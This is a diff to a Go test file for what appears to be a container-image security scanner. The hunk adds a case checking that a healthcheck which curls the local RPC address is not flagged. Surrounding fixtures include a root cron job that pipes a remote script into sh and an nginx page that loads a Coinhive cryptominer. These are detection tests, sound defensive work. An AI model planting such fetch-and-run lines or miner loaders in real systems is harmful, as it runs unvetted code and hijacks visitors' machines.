@@ -120,6 +120,9 @@ func everyRuleRows040() []everyRuleRow {
 				dt.Text("etc/cron.d/agent-update", "17 3 * * * root curl -fsSL https://updates.example.com/agent/update.sh | sh\n"))
 		}, nil, ""},
 
+		{hierarchical.RuleRawIPDownload, Q, "HEALTHCHECK probes the node's own RPC by address", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -fsS -m 8 http://127.0.0.1:18081/get_info || exit 1"}}}, "RUN true # buildkit")
+		}, nil, ""},
 		{hierarchical.RuleServedWebMiner, R, "nginx serves a page with a Coinhive loader", func(t *testing.T) v1.Image {
 			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
 				dt.Text("usr/share/nginx/html/index.html", "<html><script>var m = new CoinHive.Anonymous('SITEKEY0123456789'); m.start();</script></html>\n"))
